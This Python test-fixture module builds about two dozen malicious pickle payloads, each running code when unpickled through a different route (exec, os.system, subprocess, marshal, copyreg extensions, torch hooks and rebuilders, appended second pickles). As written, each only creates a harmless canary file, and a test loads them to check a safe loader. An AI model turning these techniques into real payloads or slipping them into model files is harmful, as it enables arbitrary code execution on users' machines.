"""Pickles that run something when they are loaded, each of which sets off the canary.

What they do is harmless: they make the empty file that `LATENTVIEWER_CANARY` names. Each is a
whole attack all the same, and a test loads every one of them to show that it is.
"""

import contextlib
import copyreg
import functools
import io
import marshal
import operator
import os
import pickle
import runpy
import subprocess
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

CANARY = "LATENTVIEWER_CANARY"
CODE = f"import os\nopen(os.environ['{CANARY}'], 'w').close()"
EXPRESSION = f"open(__import__('os').environ['{CANARY}'], 'w').close()"
SHELL = f': > "${CANARY}"'
EXTENSION = 240  # the first number that is free for private use


def canary() -> Path:
    """The file whose being there means that something ran."""
    return Path(os.environ[CANARY])


def register_extension() -> None:
    """Lets `EXTENSION` stand for exec, as a program may have done that uses copyreg."""
    copyreg.add_extension("builtins", "exec", EXTENSION)


@dataclass(frozen=True)
class Payload:
    """A pickle that runs something.

    Attributes:
        build: makes its bytes.
        load: runs it, as a careless program would.
    """

    build: Callable[[], bytes]
    load: Callable[[bytes], Any] = pickle.loads


class Reduced:
    """Unpickles as the result of a call."""

    def __init__(self, call: Callable[..., Any], *arguments: Any) -> None:
        self._told = (call, arguments)

    def __reduce__(self) -> Any:
        return self._told


class Restored:
    """Unpickles as a function that its state turns into another one, and then is called."""

    def __reduce__(self) -> Any:
        return (operator.call, (_Swapped(),))


class _Swapped:
    def __reduce__(self) -> Any:
        # partial has a `__setstate__` that takes a function.
        return (functools.partial, (print,), (exec, (CODE,), {}, None))


class Persistent:
    """Is pickled by the id that it names, which runs something while it is told."""


def by_exec(protocol: int) -> bytes:
    """The plain attack in one of the protocols."""
    return pickle.dumps(Reduced(exec, CODE), protocol)


def _script_beside() -> bytes:
    script = canary().with_name("script.py")
    script.write_text(CODE, "utf-8")
    return pickle.dumps(Reduced(runpy.run_path, str(script)), 4)


def _module_beside() -> bytes:
    """Nothing is called: the name of a module is enough, once its folder is on the path."""
    folder = canary().parent
    (folder / "set_off_by_import.py").write_text(CODE, "utf-8")
    return b"csys\npath\n" + _text(str(folder)) + b"a0cset_off_by_import\nos\n."


def _by_popen() -> bytes:
    return pickle.dumps(Reduced(operator.call, Reduced(getattr, Reduced(os.popen, SHELL), "close")))


def _opened_by_number() -> bytes:
    return pickle.dumps(Reduced(os.open, str(canary()), os.O_CREAT | os.O_WRONLY), 3)


def _marshalled() -> bytes:
    """A function from its compiled code."""
    code = marshal.dumps(compile(EXPRESSION, "payload", "eval"))
    loaded = b"cmarshal\nloads\nB" + len(code).to_bytes(4, "little") + code + b"\x85R"
    return b"\x80\x03ctypes\nFunctionType\n" + loaded + b"}\x86R)R."


def _nested() -> bytes:
    return pickle.dumps({"weights": Reduced(pickle.loads, by_exec(4))}, 4)


def _extension() -> bytes:
    return b"\x80\x02\x82" + bytes([EXTENSION]) + _text(CODE) + b"\x85R."


def _extension_4() -> bytes:
    return b"\x80\x02\x84" + EXTENSION.to_bytes(4, "little") + _text(CODE) + b"\x85R."


def _by_inst() -> bytes:
    return b"(" + _text(EXPRESSION) + b"ibuiltins\neval\n."


def _by_obj() -> bytes:
    return b"(cbuiltins\neval\n" + _text(EXPRESSION) + b"o."


def _by_stack_global() -> bytes:
    return b"\x80\x04" + _text("builtins") + _text("exec") + b"\x93" + _text(CODE) + b"\x85R."


def _dotted() -> bytes:
    """The function is reached through another module, and its name is put together."""
    inner = _text("os") + _text("path.os.system") + b"\x93"
    return b"\x80\x04" + inner + _text(SHELL) + b"\x85R."


def _memoised() -> bytes:
    """The name of the module is far from where it is used."""
    kept = _text("builtins") + b"q\x070" + _text("exec") + b"q\x080"
    return b"\x80\x04" + kept + b"h\x07h\x08\x93" + _text(CODE) + b"\x85R."


def _after_stop() -> bytes:
    """A harmless pickle, and behind it another."""
    return pickle.dumps({"latent": [1.0, 2.0]}, 2) + by_exec(2)


def _load_twice(content: bytes) -> None:
    stream = io.BytesIO(content)
    pickle.load(stream)
    pickle.load(stream)


class _PersistentPickler(pickle.Pickler):
    def persistent_id(self, obj: Any) -> Any:
        return ("storage", Reduced(exec, CODE), "0") if isinstance(obj, Persistent) else None


class _PersistentUnpickler(pickle.Unpickler):
    def persistent_load(self, pid: Any) -> Any:
        return pid


def _persistent() -> bytes:
    file = io.BytesIO()
    _PersistentPickler(file, 2).dump({"weight": Persistent()})
    return file.getvalue()


def _load_persistent(content: bytes) -> None:
    _PersistentUnpickler(io.BytesIO(content)).load()


def _object_array() -> bytes:
    import numpy as np

    values = np.empty(2, object)
    values[:] = [1.0, Reduced(exec, CODE)]
    return pickle.dumps(values, 5)


def _hooked() -> bytes:
    """A module that is harmless until it is called."""
    import torch

    net = torch.nn.Linear(2, 2)
    net._forward_pre_hooks[0] = _called_by_hook
    content = pickle.dumps(net, 2)
    ours = b"c" + _called_by_hook.__module__.encode() + b"\n_called_by_hook\n"
    assert ours in content
    made = b"cbuiltins\neval\n" + _text(f"lambda *_: {EXPRESSION}") + b"\x85R"
    return content.replace(ours, made)


def _called_by_hook(*_: Any) -> None:
    raise AssertionError


def _load_and_call(content: bytes) -> None:
    import torch

    pickle.loads(content)(torch.zeros(1, 2))


def _rebuilt() -> bytes:
    """One of torch's own rebuilders, which calls what it is given."""
    from torch._tensor import _rebuild_from_type_v2

    return pickle.dumps(Reduced(_rebuild_from_type_v2, exec, object, (CODE,), None), 2)


def _load_rebuilt(content: bytes) -> None:
    with contextlib.suppress(AttributeError):  # it asks for a tensor when all is done
        pickle.loads(content)


def _text(text: str) -> bytes:
    encoded = text.encode()
    return b"X" + len(encoded).to_bytes(4, "little") + encoded


PAYLOADS: dict[str, Payload] = {
    **{f"exec-{n}": Payload(functools.partial(by_exec, n)) for n in range(6)},
    "eval": Payload(lambda: pickle.dumps(Reduced(eval, EXPRESSION), 4)),
    "system": Payload(lambda: pickle.dumps(Reduced(os.system, SHELL), 2)),
    "popen": Payload(_by_popen),
    "subprocess": Payload(lambda: pickle.dumps(Reduced(subprocess.call, ["sh", "-c", SHELL]), 4)),
    "os.open": Payload(_opened_by_number),
    "runpy": Payload(_script_beside),
    "import": Payload(_module_beside),
    "marshal": Payload(_marshalled),
    "nested": Payload(_nested),
    "setstate": Payload(lambda: pickle.dumps(Restored(), 4)),
    "extension": Payload(_extension),
    "extension-4": Payload(_extension_4),
    "inst": Payload(_by_inst),
    "obj": Payload(_by_obj),
    "stack-global": Payload(_by_stack_global),
    "dotted": Payload(_dotted),
    "memoised": Payload(_memoised),
    "second": Payload(_after_stop, _load_twice),
    "persistent": Payload(_persistent, _load_persistent),
    "object-array": Payload(_object_array),
    "hook": Payload(_hooked, _load_and_call),
    "rebuild": Payload(_rebuilt, _load_rebuilt),
}
